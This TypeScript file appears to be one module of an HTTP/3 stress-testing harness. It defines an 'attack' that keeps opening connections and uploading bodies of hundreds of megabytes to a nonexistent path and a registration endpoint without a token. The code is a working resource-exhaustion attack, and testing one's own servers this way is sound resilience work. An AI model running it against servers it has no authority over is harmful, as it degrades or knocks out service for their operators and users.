import type { Attack } from "../../attack.ts";
import { post } from "../../clients/http3-frames.ts";
import { RawHttp3 } from "../../clients/raw-http3.ts";

/** Bodies of hundreds of MB that continue after the response, to a path that does not exist and without a token. */
export const endlessBodies: Attack = {
  name: "bodies after the answer",
  unit: "bytes",
  async run(target, signal, tally) {
    while (!signal.aborted) {
      const client = await RawHttp3.open(target);
      for (const [path, megabytes] of [
        ["/nowhere", 300],
        ["/v1/register", 600],
        ["/v1/register", 600],
      ] as const)
        if (client.hasRoom)
          tally(await client.upload(client.request(post(path, target), false), megabytes * 1e6, signal));
      client.close();
    }
  },
};
